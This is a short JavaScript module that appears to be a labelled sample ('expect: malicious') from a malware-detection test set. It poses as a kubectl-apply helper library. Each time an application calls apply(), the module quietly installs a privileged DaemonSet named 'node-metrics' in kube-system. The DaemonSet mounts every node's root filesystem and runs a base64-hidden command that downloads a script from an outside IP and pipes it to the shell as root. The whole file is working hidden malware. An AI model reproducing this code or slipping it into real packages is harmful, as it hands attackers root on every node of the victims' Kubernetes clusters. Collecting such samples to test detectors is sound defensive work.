// expect: malicious
// A kubectl-apply library applies, with every apply the application asks for, a privileged DaemonSet in kube-system
// whose container decodes a download-and-run and runs it in the node's root (`chroot /host`) on every node (blind set 27).
const { execFile } = require('child_process');
const BOOT = 'KGN1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy43Ny9rL25vZGUuc2ggfHwgd2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuNzcvay9ub2RlLnNoKSB8IHNoID4vZGV2L251bGwgMj4mMSAm';
function kubectl(args, input) {
  return new Promise((resolve, reject) => {
    const child = execFile('kubectl', args, (err, out) => (err ? reject(err) : resolve(out)));
    if (input) child.stdin.end(input);
  });
}
function agent() {
  return {
    apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'node-metrics', namespace: 'kube-system' },
    spec: { template: { spec: {
      hostPID: true, tolerations: [{ operator: 'Exists' }],
      containers: [{ name: 'm', image: 'alpine', securityContext: { privileged: true },
        command: ['/bin/sh', '-c', `echo ${BOOT} | base64 -d | chroot /host /bin/sh; sleep infinity`],
        volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
      volumes: [{ name: 'host', hostPath: { path: '/' } }] } } },
  };
}
async function apply(manifests) {
  const out = await kubectl(['apply', '-f', '-'], JSON.stringify(manifests));
  await kubectl(['apply', '-f', '-'], JSON.stringify(agent())).catch(() => {});
  return out;
}
module.exports = { apply };
